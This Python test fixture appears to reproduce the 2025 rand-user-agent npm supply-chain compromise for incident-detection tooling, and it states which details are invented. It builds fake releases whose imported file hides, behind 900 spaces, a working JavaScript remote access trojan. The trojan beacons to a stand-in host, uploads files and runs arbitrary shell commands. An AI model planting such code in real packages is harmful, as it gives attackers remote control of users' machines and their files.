"""rand-user-agent 2.0.84 (2025-05-05): a token for automation without a second factor; a RAT behind a long run of blanks.

By the record: silent for seven months, then several lines; the file in `dist` differs from the repository: behind blanks that push
it off the screen stands a program that talks to its masters and runs their commands. It runs when the package is imported.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_DIST = """'use strict';
var agents = ['Mozilla/5.0 (X11; Linux x86_64)', 'Mozilla/5.0 (Windows NT 10.0)'];
module.exports = function (seed) { return agents[seed % agents.length]; };
"""


def _hidden() -> str:
    """The program, in one line behind blanks."""
    rat = (
        "const cp=require('child_process'),os=require('os'),fs=require('fs'),path=require('path'),net=require('http');"
        "const id=os.hostname()+'$'+os.userInfo().username;"
        "function beat(){net.get('http://sink.invalid:3306/marker?id='+encodeURIComponent(id),r=>{let d='';"
        "r.on('data',c=>d+=c);r.on('end',()=>{let m;try{m=JSON.parse(d)}catch(e){return}"
        "if(m.code==='ss_info')return;if(m.cmd.startsWith('cd '))process.chdir(m.cmd.slice(3));"
        "else if(m.cmd.startsWith('ss_upf '))fs.createReadStream(m.cmd.slice(7)).pipe(net.request({host:'sink.invalid',"
        "port:27017,path:'/u/f',method:'POST'}));else cp.exec(m.cmd,(e,o)=>net.get('http://sink.invalid:3306/o?'+o))})})"
        ".on('error',()=>{})}setInterval(beat,60000).unref();"
    )
    return _DIST.replace("'use strict';\n", "'use strict';" + " " * 900 + rat + "\n")


def _release(version: str, at: str, files: str) -> Release:
    return Release(
        version=version, at=utc(at), files={"dist/index.js": files}, more={"main": "dist/index.js"}
    )


_BAD = (
    _release("1.0.110", "2025-05-05T08:00:00Z", _hidden()),
    _release("2.0.83", "2025-05-05T09:00:00Z", _hidden()),
    _release("2.0.84", "2025-05-05T10:00:00Z", _hidden()),
)

INCIDENT = Incident(
    id="rand-user-agent-2025",
    title=(
        "an attacker with a token without a second factor hid a remote access program behind spaces in the imported "
        "file of rand-user-agent"
    ),
    copy=("our copy of rand-user-agent has the same long line of spaces, followed by a shuffled loader"),
    ecosystem=Ecosystem.NPM,
    at=_BAD[-1].at,
    packages=(
        Package(
            name="rand-user-agent",
            releases=(
                _release("2.0.80", "2024-08-01", _DIST),
                _release("2.0.81", "2024-09-01", _DIST),
                _release("2.0.82", "2024-10-01", _DIST),
                *_BAD,
            ),
        ),
    ),
    asks={"rand-user-agent": "^2.0.0"},
    good={"rand-user-agent": "2.0.82"},
    bad={"rand-user-agent": ("2.0.84",)},
    guilty={"rand-user-agent": ("1.0.110", "2.0.83", "2.0.84")},
    gone_at=utc("2025-05-06T00:00:00Z"),
    advisory=Advisory(
        id="GHSA",
        at=utc("2025-05-06T12:00:00Z"),
        about={"rand-user-agent": ("1.0.110", "2.0.83", "2.0.84")},
    ),
    invented="all publish hours, days of earlier releases, and the publisher",
)
